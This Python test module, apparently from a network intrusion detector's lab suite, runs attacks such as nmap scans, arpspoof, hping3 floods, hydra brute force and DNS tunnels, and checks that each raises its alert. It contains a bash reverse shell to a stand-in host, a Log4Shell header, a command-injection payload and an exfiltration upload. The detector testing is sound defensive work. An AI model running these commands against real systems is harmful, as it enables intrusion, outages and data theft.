"""Attacks played in the lab with the tools attackers use, and what ordinary tools do beside them.

Each names the alert it must make, how severe that must be at least, and within which time of its start.
"""

from __future__ import annotations

import shutil
import sys
import time
from collections.abc import Callable
from typing import NamedTuple

from tests.live import servers
from tests.live.lab import BAD, HOSTS, RESOLVER, WEB, Lab, address
from tests.live.link_frames import DHCPV6, FLAP, POISON, POSE_BY_NDP, REDIRECT, ROUTER_FLOOD, STARVE, advertise

Play = Callable[[Lab], None]
LOW, MEDIUM, HIGH, CRITICAL = "low", "medium", "high", "critical"
PYTHON = sys.executable


class Attack(NamedTuple):
    name: str
    detector: str
    severity: str
    within_s: float
    tools: tuple[str, ...]
    play: Play
    before: Play | None = None
    """What the network did before: its own DHCP server answered, say."""
    config: str = ""


def nmap(*arguments: str, host: str = "guest", limit_s: float = 60) -> Play:
    return lambda lab: void(lab.on(host, "nmap", "-n", "-Pn", *arguments, timeout_s=limit_s))


def run(host: str, *command: str, limit_s: float = 20) -> Play:
    return lambda lab: void(lab.on(host, *command, timeout_s=limit_s))


def guess_system(lab: Lab) -> None:
    servers.web(lab, "nas", 80)
    nmap("-O", "--top-ports", "20", address("nas"), limit_s=30)(lab)


def void(_: object) -> None:
    return None


def scapy(host: str, code: str, *, limit_s: float = 30) -> Play:
    """Frames the tools at hand do not make."""
    head = "from scapy.all import *\nconf.verb = 0\nconf.iface = 'eth0'\n"
    return lambda lab: void(lab.on(host, PYTHON, "-c", head + code, timeout_s=limit_s))


def talk(lab: Lab) -> None:
    """Desktop and router know each other, as they do where nobody has posed before."""
    for host in HOSTS:
        lab.on(host, "ip", "neigh", "flush", "all")
    for host in ("desktop", "nas", "guest"):
        lab.on(host, "ping", "-c", "1", "-W", "1", address("router"))
    for other in (address("nas"), WEB):
        lab.on("desktop", "ping", "-c", "1", "-W", "1", other)


# -- the link ----------------------------------------------------------------------------------------------------------


def arpspoof(target: str, posed_as: str) -> Play:
    def play(lab: Lab) -> None:
        lab.start("guest", "arpspoof", "-i", "eth0", "-t", address(target), address(posed_as))
        for _ in range(4):
            time.sleep(0.8)
            lab.on("desktop", "ip", "neigh", "flush", "all")
            lab.on("desktop", "ping", "-c", "1", "-W", "1", address(posed_as))

    return play


def both_ways(first: str, second: str) -> Play:
    def play(lab: Lab) -> None:
        lab.start("guest", "arpspoof", "-i", "eth0", "-r", "-t", address(first), address(second))
        for _ in range(4):
            time.sleep(0.8)
            lab.on(first, "ip", "neigh", "flush", "all")
            lab.on(first, "ping", "-c", "1", "-W", "1", address(second))

    return play


def same_address(lab: Lab) -> None:
    lab.on("lamp", "ip", "address", "add", f"{address('nas')}/24", "dev", "eth0")
    for _ in range(5):
        for asker in ("desktop", "router"):
            lab.on(asker, "ip", "neigh", "flush", "all")
            lab.on(asker, "ping", "-c", "1", "-W", "1", address("nas"))
        time.sleep(0.5)
    lab.on("lamp", "ip", "address", "del", f"{address('nas')}/24", "dev", "eth0")


def dhcp_server(lab: Lab, host: str, first: int) -> None:
    lab.start(
        host, "dnsmasq", "--keep-in-foreground", "--port=0", "--conf-file=/dev/null", "--no-ping",
        f"--dhcp-range=192.168.77.{first},192.168.77.{first + 20},1h", f"--dhcp-option=3,{address(host)}",
        f"--dhcp-option=6,{address(host)}", f"--dhcp-leasefile={lab.folder}/leases-{host}-{time.time_ns()}",
        f"--pid-file={lab.folder}/dnsmasq-{host}-{time.time_ns()}", "--interface=eth0", "--bind-interfaces",
    )  # fmt: skip
    time.sleep(0.7)


DISCOVER = ("--script", "broadcast-dhcp-discover", "--script-args", "broadcast-dhcp-discover.timeout=2")


def discover(lab: Lab) -> None:
    """A device asks for an address, as any that joins."""
    lab.on("desktop", "nmap", "-e", "eth0", *DISCOVER, timeout_s=20)


def own_dhcp(lab: Lab) -> None:
    dhcp_server(lab, "router", 100)
    discover(lab)


def rogue_dhcp(lab: Lab) -> None:
    dhcp_server(lab, "guest", 200)
    discover(lab)


# -- names -------------------------------------------------------------------------------------------------------------


def iodine(lab: Lab) -> None:
    lab.start("net", "iodined", "-f", "-c", "-P", "secret", "-l", RESOLVER, "10.99.0.1", "t.example.org")
    time.sleep(1)
    lab.start("desktop", "iodine", "-f", "-r", "-P", "secret", RESOLVER, "t.example.org")
    time.sleep(4)
    lab.on("desktop", "ping", "-c", "60", "-i", "0.2", "-s", "600", "-W", "1", "10.99.0.1", timeout_s=25)


def dns2tcp(lab: Lab) -> None:
    settings = lab.folder / "dns2tcpd.conf"
    settings.write_text(
        f"listen = {RESOLVER}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = d.example.org\n"
        f"resources = web:{WEB}:8080\n"
    )
    servers.web(lab, "net", 8080, body=200_000)
    lab.start("net", "dns2tcpd", "-F", "-f", str(settings))
    time.sleep(1)
    lab.start("desktop", "dns2tcpc", "-z", "d.example.org", "-r", "web", "-l", "8888", RESOLVER)
    time.sleep(1.5)
    lab.on("desktop", "curl", "-s", "-o", "/dev/null", "http://127.0.0.1:8888/big", timeout_s=40)


def ptunnel(lab: Lab) -> None:
    servers.web(lab, "net", 8080, body=400_000)
    lab.on("net", "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
    lab.start("net", "ptunnel", "-c", "eth0")
    time.sleep(1)
    lab.start("desktop", "ptunnel", "-p", WEB, "-lp", "8000", "-da", WEB, "-dp", "8080")
    time.sleep(1)
    lab.on("desktop", "curl", "-s", "-o", "/dev/null", "-m", "15", "http://127.0.0.1:8000/big")
    lab.on("net", "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=0")


def rebinding(lab: Lab) -> None:
    for answer in (BAD, address("router")):
        dns = servers.resolver(lab, f"--address=/rebind.example.org/{answer}", "--local-ttl=1")
        for _ in range(2):
            lab.on("desktop", "dig", "+tries=1", "+time=2", f"@{RESOLVER}", "rebind.example.org")
        dns.terminate()
        dns.wait()
        time.sleep(0.3)


def made_up_names(lab: Lab) -> None:
    servers.resolver(lab, "--local=/com/", "--local=/net/")
    code = (
        "import random, subprocess\nr = random.Random(5)\n"
        "for n in range(40):\n"
        " label = ''.join(r.choice('bcdfghjklmnpqrstvwxz0123456789aeiou') for _ in range(14))\n"
        " name = label + r.choice(['.com', '.net'])\n"
        f" subprocess.run(['dig', '+tries=1', '+time=1', '@{RESOLVER}', name], capture_output=True)\n"
    )
    lab.on("lamp", PYTHON, "-c", code, timeout_s=40)


def later_than(before: Play, seconds: float) -> Play:
    def play(lab: Lab) -> None:
        before(lab)
        time.sleep(seconds)

    return play


def other_resolver(lab: Lab) -> None:
    servers.resolver(lab, "--address=/example.org/198.51.100.80")
    lab.on("lamp", "dig", "+tries=1", "+time=2", f"@{RESOLVER}", "www.example.org")


# -- what devices do ---------------------------------------------------------------------------------------------------


def calls(every_s: float, jitter: float, seconds: float, host: str = "lamp", port: int = 4444) -> Play:
    """A curl loop, as a small trojan is."""

    def play(lab: Lab) -> None:
        servers.web(lab, "net", port)
        code = (
            "import random, subprocess, time\nr = random.Random(1)\n"
            f"end = time.monotonic() + {seconds}\n"
            "while time.monotonic() < end:\n"
            f" subprocess.run(['curl', '-s', '-m', '2', '-o', '/dev/null', 'http://{BAD}:{port}/gate'])\n"
            f" time.sleep({every_s} * (1 + r.uniform(-{jitter}, {jitter})))\n"
        )
        lab.on(host, PYTHON, "-c", code, timeout_s=seconds + 10)

    return play


def upload(megabytes: int) -> Play:
    def play(lab: Lab) -> None:
        servers.sink(lab, "net", 9000)
        command = f"head -c {megabytes}M /dev/zero | curl -s -T - http://{BAD}:9000/up -m 60 -o /dev/null"
        lab.on("nas", "sh", "-c", command, timeout_s=70)

    return play


def visited(lab: Lab) -> None:
    servers.web(lab, "nas", 8080)
    lab.on("net", "curl", "-s", "-m", "3", "-o", "/dev/null", f"http://{address('nas')}:8080/")


def guessed(service: str, port: int, start: Callable[[Lab, str], object]) -> Play:
    def play(lab: Lab) -> None:
        start(lab, "nas")
        words = lab.folder / "words"
        words.write_text("\n".join(f"secret{n}" for n in range(300)) + "\n")
        lab.on(
            "guest", "hydra", "-I", "-t", "16", "-l", "root", "-P", str(words), "-s", str(port), address("nas"),
            service, timeout_s=190,
        )  # fmt: skip

    return play


def shows(kind: str, *, name: str = "shop.example.org") -> Play:
    """openssl s_server with this certificate, asked by curl for ``name``."""

    def play(lab: Lab) -> None:
        servers.tls(lab, kind)
        to = ("-connect", f"{BAD}:443", "-servername", name)
        lab.on("desktop", "openssl", "s_client", *to, *servers.client_options(kind), timeout_s=4, data="")

    return play


def logs_in(command: str, start: Callable[[Lab, str], object]) -> Play:
    def play(lab: Lab) -> None:
        start(lab, "net")
        lab.on("desktop", "sh", "-c", command, timeout_s=15)

    return play


def reverse_shell(lab: Lab) -> None:
    """As the usual one-liners make it; who listens types a command."""
    code = (
        "import socket, time\ns = socket.create_server(('', 4444))\nc = s.accept()[0]\ntime.sleep(0.5)\n"
        "c.sendall(b'id\\n')\ntime.sleep(1)\n"
    )
    lab.start("net", PYTHON, "-c", code)
    time.sleep(0.7)
    lab.on("desktop", "bash", "-c", f"bash -i >& /dev/tcp/{BAD}/4444 0>&1", timeout_s=4)


def medusa(lab: Lab) -> None:
    servers.ftp(lab, "nas")
    words = lab.folder / "words"
    words.write_text("\n".join(f"secret{n}" for n in range(60)) + "\n")
    lab.on(
        "guest", "medusa", "-h", address("nas"), "-u", "root", "-P", str(words), "-M", "ftp", "-t", "8", timeout_s=60
    )


def hydra_form(lab: Lab) -> None:
    servers.web(lab, "nas", 80)
    words = lab.folder / "words"
    words.write_text("\n".join(f"secret{n}" for n in range(120)) + "\n")
    lab.on(
        "guest", "hydra", "-I", "-t", "8", "-l", "root", "-P", str(words), address("nas"), "http-post-form",
        "/login.php:user=^USER^&password=^PASS^:S=welcome", timeout_s=60,
    )  # fmt: skip


def opens_door(lab: Lab) -> None:
    servers.web(lab, "router", 49152)
    body = (
        "<?xml version='1.0'?><s:Envelope><s:Body><u:AddPortMapping><NewExternalPort>22</NewExternalPort>"
        "<NewProtocol>TCP</NewProtocol><NewInternalPort>22</NewInternalPort></u:AddPortMapping></s:Body></s:Envelope>"
    )
    url = f"http://{address('router')}:49152/ctl/IPConn"
    lab.on("lamp", "curl", "-s", "-m", "3", "-o", "/dev/null", "-H", "Content-Type: text/xml", "-d", body, url)


def asks_nas(*arguments: str) -> Play:
    def play(lab: Lab) -> None:
        servers.web(lab, "nas", 80)
        lab.on("guest", "curl", "-s", "-m", "3", "-o", "/dev/null", *arguments, f"http://{address('nas')}/")

    return play


def web_server(lab: Lab, host: str) -> None:
    servers.web(lab, host, 80)


HPING = ("hping3", "-q", "-n")
SCANS = (
    Attack("nmap -sS 1000 ports", "port_scan", HIGH, 15, ("nmap",), nmap("-sS", address("nas"))),
    Attack("nmap -sT 1000 ports", "port_scan", HIGH, 15, ("nmap",), nmap("-sT", address("nas"))),
    Attack("nmap -sS -T2 slow", "port_scan", HIGH, 30, ("nmap",),
           nmap("-sS", "-T2", "--top-ports", "60", address("nas"), limit_s=40)),
    Attack("nmap -sS behind decoys", "port_scan", HIGH, 15, ("nmap",),
           nmap("-sS", "-D", "192.168.77.50,192.168.77.51,ME", "--top-ports", "300", address("nas"))),
    Attack("nmap -sS from outside", "port_scan", MEDIUM, 15, ("nmap",), nmap("-sS", address("nas"), host="net")),
    Attack("nmap -sS --top-ports 1000 outward", "port_scan", HIGH, 15, ("nmap",),
           nmap("-sS", "--top-ports", "1000", BAD)),
    Attack("nmap -sU", "udp_scan", HIGH, 40, ("nmap",),
           nmap("-sU", "--top-ports", "200", "--max-retries", "0", "--min-rate", "20", address("nas"), limit_s=45)),
    Attack("nmap -sN", "stealth_scan", HIGH, 15, ("nmap",), nmap("-sN", "--top-ports", "200", address("nas"))),
    Attack("nmap -sF", "stealth_scan", HIGH, 15, ("nmap",), nmap("-sF", "--top-ports", "200", address("nas"))),
    Attack("nmap -sX", "stealth_scan", HIGH, 15, ("nmap",), nmap("-sX", "--top-ports", "200", address("nas"))),
    Attack("nmap -sA", "stealth_scan", HIGH, 15, ("nmap",), nmap("-sA", "--top-ports", "200", address("nas"))),
    Attack("nmap -sn of a far /24", "host_sweep", HIGH, 30, ("nmap",),
           run("guest", "nmap", "-n", "-sn", "-PE", "--max-retries", "0", "203.0.113.0/24", limit_s=30)),
    Attack("nmap -O", "os_probe", MEDIUM, 25, ("nmap",), guess_system),
    Attack("nmap -sn /24", "arp_sweep", MEDIUM, 10, ("nmap",), run("guest", "nmap", "-n", "-sn", "192.168.77.0/24")),
    Attack("arp-scan /24", "arp_sweep", MEDIUM, 10, ("arp-scan",), run("guest", "arp-scan", "-I", "eth0", "-l")),
    Attack("nmap one port of a /24", "host_sweep", HIGH, 20, ("nmap",),
           nmap("-sS", "-p", "445", "203.0.113.0/24", limit_s=25)),
    Attack("curl for 40 paths", "web_scan", HIGH, 10, ("curl",), logs_in(
        f"for n in $(seq 40); do curl -s -o /dev/null http://{WEB}/admin$n.php; done", web_server)),
)  # fmt: skip
LINK = (
    Attack("arpspoof as the router", "gateway_spoof", CRITICAL, 10, ("arpspoof",), arpspoof("desktop", "router"), talk),
    Attack("arpspoof both ways", "gateway_spoof", CRITICAL, 10, ("arpspoof",), both_ways("desktop", "router"), talk),
    Attack("arpspoof of a neighbour", "address_conflict", MEDIUM, 12, ("arpspoof",), arpspoof("desktop", "nas"), talk),
    Attack("two hosts, one address", "address_conflict", MEDIUM, 15, ("ping",), same_address, talk),
    Attack("NDP override as the router", "gateway_spoof", HIGH, 10, (), scapy("guest", POSE_BY_NDP),
           scapy("router", advertise("router", "fe80::1", "fd77::"))),
    Attack("rogue router advertisement", "rogue_router", HIGH, 10, (),
           scapy("guest", advertise("guest", "fe80::66", "fd66::")),
           scapy("router", advertise("router", "fe80::1", "fd77::"))),
    Attack("flood of router advertisements", "rogue_router", HIGH, 10, (), scapy("guest", ROUTER_FLOOD),
           scapy("router", advertise("router", "fe80::1", "fd77::"))),
    Attack("ICMP redirect as the router", "rogue_router", HIGH, 10, (), scapy("guest", REDIRECT), talk),
    Attack("DHCPv6 server beside the router", "rogue_dhcp", HIGH, 15, (), scapy("guest", DHCPV6),
           scapy("router", advertise("router", "fe80::1", "fd77::"))),
    Attack("LLMNR answers for all", "name_spoof", HIGH, 10, (), scapy("guest", POISON), talk),
    Attack("dnsmasq as a second DHCP server", "rogue_dhcp", HIGH, 20, ("dnsmasq", "nmap"), rogue_dhcp, own_dhcp),
    Attack("DHCP starvation", "dhcp_flood", HIGH, 10, (), scapy("guest", STARVE)),
    Attack("one MAC in two VLANs", "mac_flapping", MEDIUM, 10, (), scapy("guest", FLAP)),
)  # fmt: skip
FLOODS = (
    Attack("hping3 SYN flood", "syn_flood", HIGH, 20, ("hping3",),
           run("guest", *HPING, "-S", "-p", "80", "-i", "u1000", "-c", "8000", address("nas"))),
    Attack("hping3 SYN flood, forged sources", "syn_flood", HIGH, 20, ("hping3",),
           run("guest", *HPING, "-S", "-p", "80", "-i", "u1000", "-c", "8000", "--rand-source", address("nas"))),
    Attack("hping3 ACK flood, forged sources", "syn_flood", HIGH, 20, ("hping3",),
           run("guest", *HPING, "-A", "-p", "80", "-i", "u1000", "-c", "8000", "--rand-source", address("nas"))),
    Attack("hping3 UDP flood at port 443", "udp_flood", HIGH, 20, ("hping3",),
           run("guest", *HPING, "-2", "-p", "443", "-i", "u1000", "-c", "8000", "--rand-source", address("nas"))),
    Attack("hping3 as DNS reflectors", "reflection", HIGH, 20, ("hping3",),
           run("guest", *HPING, "-2", "-k", "-s", "53", "-p", "40000", "-i", "u1000", "-c", "8000", "-d", "400",
               "--rand-source", address("nas"))),
    Attack("hping3 ICMP flood", "icmp_flood", HIGH, 20, ("hping3",),
           run("guest", *HPING, "-1", "-i", "u1000", "-c", "8000", address("nas"))),
    Attack("hping3 UDP flood", "udp_flood", HIGH, 20, ("hping3",),
           run("guest", *HPING, "-2", "-p", "9", "-i", "u1000", "-c", "8000", address("nas"))),
    Attack("hping3 UDP flood from one port", "udp_flood", HIGH, 20, ("hping3",),
           run("guest", *HPING, "-2", "-k", "-s", "5555", "-p", "9", "-d", "200", "-i", "u1000", "-c", "8000", BAD)),
)  # fmt: skip
NAMES = (
    Attack("iodine", "dns_tunnel", HIGH, 40, ("iodine", "iodined"), iodine),
    Attack("dns2tcp", "dns_tunnel", HIGH, 40, ("dns2tcpc", "dns2tcpd", "curl"), dns2tcp),
    Attack("ptunnel", "icmp_tunnel", HIGH, 20, ("ptunnel", "curl"), ptunnel),
    Attack("dnsmasq rebinds", "dns_rebinding", HIGH, 10, ("dnsmasq", "dig"), rebinding),
    Attack("made-up names", "nxdomain_storm", HIGH, 20, ("dnsmasq", "dig"), made_up_names),
    Attack("dig at another resolver", "resolver_bypass", MEDIUM, 10, ("dnsmasq", "dig", "nmap"), other_resolver,
           later_than(own_dhcp, 4), "[detectors.resolver_bypass]\nlearning_s = 3\n"),
)  # fmt: skip
TLS = (
    Attack("expired certificate", "certificate", MEDIUM, 10, ("openssl",), shows("expired")),
    Attack("not yet valid certificate", "certificate", MEDIUM, 10, ("openssl",), shows("early")),
    Attack("self-signed certificate", "certificate", MEDIUM, 10, ("openssl",), shows("self-signed")),
    Attack("RSA key of 768 bits", "certificate", MEDIUM, 10, ("openssl",), shows("weak-key")),
    Attack("MD5 signature", "certificate", MEDIUM, 10, ("openssl",), shows("md5")),
    Attack("SHA-1 signature", "certificate", LOW, 10, ("openssl",), shows("sha1")),
    Attack("certificate for another name", "certificate", MEDIUM, 10, ("openssl",),
           shows("good", name="bank.example.net")),
    Attack("TLS 1.0", "weak_tls", LOW, 10, ("openssl",), shows("tls1.0")),
    Attack("NULL cipher", "weak_tls", MEDIUM, 10, ("openssl",), shows("null")),
    Attack("anonymous cipher", "weak_tls", MEDIUM, 10, ("openssl",), shows("anonymous")),
)  # fmt: skip
CLEAR = (
    Attack("HTTP basic", "clear_credentials", MEDIUM, 10, ("curl",),
           logs_in(f"curl -s -u anna:secret http://{WEB}/", web_server)),
    Attack("HTTP form", "clear_credentials", MEDIUM, 10, ("curl",),
           logs_in(f"curl -s -d 'user=anna&password=secret' http://{WEB}/login", web_server)),
    Attack("FTP", "clear_credentials", MEDIUM, 15, ("curl", "vsftpd"),
           logs_in(f"curl -s -m 8 ftp://anna:secret@{WEB}/", servers.ftp)),
    Attack("Telnet", "clear_credentials", MEDIUM, 15, ("telnet",),
           logs_in(f"(sleep 1; echo anna; sleep 1; echo secret; sleep 1) | telnet {WEB}", servers.telnet)),
    Attack("POP3", "clear_credentials", MEDIUM, 10, ("curl",),
           logs_in(f"curl -s -m 5 pop3://anna:secret@{WEB}/", servers.mail("pop3"))),
    Attack("IMAP", "clear_credentials", MEDIUM, 10, ("curl",),
           logs_in(f"curl -s -m 5 imap://anna:secret@{WEB}/", servers.mail("imap"))),
    Attack("SMTP AUTH", "clear_credentials", MEDIUM, 10, ("curl",),
           logs_in(f"echo hi | curl -s -m 5 --mail-from a@b.org --mail-rcpt c@d.org -u anna:secret -T - smtp://{WEB}/",
                   servers.mail("smtp"))),
    Attack("SNMP community", "clear_credentials", LOW, 15, ("snmpget", "snmpd"),
           logs_in(f"snmpget -v2c -c hidden -t 1 -r 1 {WEB} 1.3.6.1.2.1.1.1.0", servers.snmp)),
)  # fmt: skip
GUESSES = (
    Attack("hydra at SSH", "brute_force", HIGH, 60, ("hydra", "sshd"), guessed("ssh", 22, servers.ssh)),
    Attack("medusa at FTP", "brute_force", HIGH, 60, ("medusa", "vsftpd"), medusa),
    Attack("hydra at FTP", "brute_force", HIGH, 60, ("hydra", "vsftpd"), guessed("ftp", 21, servers.ftp)),
    Attack("hydra at a web form", "brute_force", HIGH, 60, ("hydra",), hydra_form),
    Attack("hydra at Telnet", "brute_force", HIGH, 200, ("hydra", "telnetd"), guessed("telnet", 23, servers.telnet)),
    Attack("bash calls home", "backdoor", HIGH, 10, ("bash",), reverse_shell),
    Attack("curl with Log4Shell in a header", "web_attack", HIGH, 10, ("curl",),
           asks_nas("-H", "X-Api-Version: ${jndi:ldap://203.0.113.9/a}")),
    Attack("curl with a command in a form", "web_attack", HIGH, 10, ("curl",),
           asks_nas("--data-urlencode", "ip=127.0.0.1; cat /etc/passwd")),
    Attack("curl asks the router for a door", "port_mapping", MEDIUM, 10, ("curl",), opens_door),
    Attack("connection from the internet", "inbound", LOW, 10, ("curl",), visited),
    Attack("upload of 700 MB", "upload", MEDIUM, 60, ("curl",), upload(700)),
    Attack("a stranger joins", "new_device", MEDIUM, 25, (), scapy(
        "guest", "sendp(Ether(src='ec:71:db:00:00:99', dst='ff:ff:ff:ff:ff:ff')"
                 "/ARP(op=1, hwsrc='ec:71:db:00:00:99', psrc='192.168.77.99', pdst='192.168.77.1'))"),
        later_than(talk, 4),
        "[detectors.new_device]\nlearning_s = 3\n"),
)  # fmt: skip
SLOW = (
    Attack("curl every 6 s, 30 % jitter", "beacon", HIGH, 290, ("curl",), calls(6, 0.3, 280)),
)  # fmt: skip
ATTACKS = (*SCANS, *LINK, *FLOODS, *NAMES, *TLS, *CLEAR, *GUESSES, *SLOW)


def missing_tools(attack: Attack) -> list[str]:
    return [tool for tool in attack.tools if shutil.which(tool) is None]


# -- ordinary use ------------------------------------------------------------------------------------------------------


def household(lab: Lab) -> None:
    """A minute of a quiet home: pages by name, time, names of the network, a package index, a backup at home."""
    servers.resolver(lab, f"--address=/example.org/{WEB}", host="router", listen=address("router"))
    servers.web(lab, "net", 80, body=300_000)
    servers.tls(lab, "good", host_address=WEB)
    servers.web(lab, "nas", 8080, body=2_000_000)
    servers.clock(lab)
    for number in range(12):
        name = ("www.example.org", "deb.example.org", "cdn.example.org", "shop.example.org")[number % 4]
        lab.on("desktop", "dig", "+short", "+tries=1", f"@{address('router')}", name)
        for path in ("/", "/style.css", f"/dists/{number}/Packages"):
            lab.on(
                "desktop",
                "curl",
                "-s",
                "-o",
                "/dev/null",
                "-m",
                "5",
                "--connect-to",
                f"::{WEB}:",
                f"http://{name}{path}",
            )
        lab.on("lamp", PYTHON, "-c", servers.ASK_TIME)
        lab.on("desktop", "curl", "-s", "-o", "/dev/null", "-m", "9", f"http://{address('nas')}:8080/big")
        lab.on("desktop", PYTHON, "-c", servers.ANNOUNCE)
        time.sleep(1)
    for host in HOSTS:
        lab.on(host, "ping", "-c", "2", "-i", "0.5", "-W", "1", address("router"))
